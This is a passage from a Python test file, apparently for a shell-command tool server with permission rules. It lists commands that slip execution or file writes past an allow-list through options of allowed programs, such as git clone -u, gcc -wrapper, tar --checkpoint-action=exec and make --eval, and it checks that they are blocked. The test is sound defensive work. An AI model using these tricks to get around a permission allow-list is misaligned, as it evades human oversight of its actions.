        "git clone -u 'touch {}' . d",
        "git log --output={}",
        "git archive -o {} HEAD",
        "gcc -wrapper sh,-c,'touch {}' -c x.c",
        "gcc -B. -c x.c",
        "tar -cf a.tar --checkpoint=1 --checkpoint-action=exec='touch {}' x.c",
        "sort -o {} x.c",
        "find . -fprint {}",
        "make -s --eval='$(shell touch {})'",
        "X=--output={}; git log $X",
    ],
)
async def test_with_a_client_that_declines_nothing_of_it_happens(command: str, root: Path) -> None:
    program = next(word for word in command.split() if not word.startswith("X="))
    if shutil.which(program) is None:
        pytest.skip(f"not run: there is no {program}")
    (root / "x.c").write_text("int main(void) { return 0; }\n")
    (root / "as").write_text("#!/bin/sh\ntouch pwn\n")
    (root / "as").chmod(0o755)
    config = root.parent / "settings.json"
    config.write_text(json.dumps({"permissions": {"allow": [f"Bash({program} *)", "Bash(touch *)"]}}))
    person = Person()
    if program == "git":
        await anyio.run_process(["git", "init", "-q", str(root)])
        author = ("-c", "user.name=me", "-c", "user.email=m@e.example")
        await anyio.run_process(["git", "-C", str(root), *author, "commit", "-q", "--allow-empty", "-m", "x"])
    async with served(root, person, "--config", str(config)) as client:
        result = await client.call_tool("run_shell_command", {"command": command.format("pwn")})
    assert result.is_error
    assert len(person.asked) == 1
    assert not (root / "pwn").exists()
